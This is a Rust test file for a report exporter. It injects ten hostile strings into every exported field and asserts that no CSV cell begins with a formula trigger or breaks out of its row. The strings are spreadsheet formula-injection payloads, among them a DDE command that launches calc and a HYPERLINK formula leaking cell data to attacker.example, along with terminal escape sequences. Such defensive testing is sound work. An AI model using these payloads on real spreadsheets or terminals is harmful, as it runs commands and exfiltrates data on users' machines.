//! Hostile evidence in every field of every export, read back by another program.

use std::path::Path;
use std::process::Command;

use super::*;
use crate::display::is_safe;
use crate::sample;

/// Texts that would act in a spreadsheet or on a terminal.
const ATTACKS: [&str; 10] = [
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    " \u{a0}=HYPERLINK(\"https://attacker.example/\"&A1)",
    "\t=1+1",
    "\r=1+1",
    "\"\r\n=1+1,\"",
    "\u{1b}]52;c;eA==\u{7}\u{202e}\u{200b}",
    "\u{ff1d}1+1",
];

/// Every cell of a table as Python's csv module reads it.
fn cells(folder: &Path, name: &str) -> Vec<Vec<String>> {
    let program = "import csv,json,sys\nprint(json.dumps(list(csv.reader(open(sys.argv[1], encoding='utf-8', newline='')))))";
    let output = Command::new("python3").args(["-I", "-c", program]).arg(folder.join(name)).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    serde_json::from_slice(&output.stdout).unwrap()
}

#[test]
fn no_cell_acts_hides_or_breaks_out() {
    for attack in ATTACKS {
        let report = sample::hostile(attack);
        let folder = tempfile::tempdir().unwrap();
        let mut seen = 0;
        for (name, bytes) in files(&report).unwrap() {
            let text = String::from_utf8(bytes.clone()).unwrap();
            let lines: Vec<&str> = text.split_terminator(['\r', '\n']).collect();
            assert!(lines.iter().all(|line| is_safe(line)), "{attack:?} in {name}");
            std::fs::write(folder.path().join(name), &bytes).unwrap();
            if name.split_once('.').is_none_or(|(_, end)| end != "csv") {
                continue;
            }
            let rows = cells(folder.path(), name);
            assert!(rows.iter().all(|row| row.len() == rows[0].len()), "{attack:?} breaks out in {name}");
            for cell in rows.iter().skip(1).flatten() {
                let first = cell.trim_start().chars().next();
                assert!(
                    !first.is_some_and(|first| "=+-@\t\r\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}".contains(first)),
                    "{attack:?} in {name}: {cell:?}"
                );
                seen += usize::from(cell.contains(&*escape(attack)) || cell.contains("1+1"));
            }
        }
        assert!(seen > 50, "{attack:?} must be seen, in {seen} cells");
    }
}

#[test]
fn tables_hold_what_the_report_holds() {
    let report = sample::failed();
    let folder = tempfile::tempdir().unwrap();
    for (name, bytes) in files(&report).unwrap() {
        std::fs::write(folder.path().join(name), bytes).unwrap();
    }
    let rows = |name: &str| cells(folder.path(), name).len() - 1;
    assert_eq!(rows("findings.csv"), report.findings.len());
    assert_eq!(rows("cycles.csv"), report.coverage.rows.len());
    assert_eq!(rows("records.csv"), report.records.len());
    assert_eq!(rows("violations.csv"), report.violations.len());
    assert_eq!(rows("drift.csv"), report.drift.len());
    assert_eq!(rows("controls.csv"), report.controls.iter().map(|row| row.cells.len()).sum::<usize>());
    let findings = cells(folder.path(), "findings.csv");
    assert_eq!(findings[1][0], report.findings[0].code.as_str());
    assert_eq!(findings[1][7], report.findings[0].expected);
    let sums = Command::new("sha256sum").args(["-c", "--strict", SUMS]).current_dir(folder.path()).output();
    let sums = sums.unwrap();
    assert!(sums.status.success(), "{}", String::from_utf8_lossy(&sums.stdout));
    assert_eq!(String::from_utf8_lossy(&sums.stdout).lines().count(), 7);
}
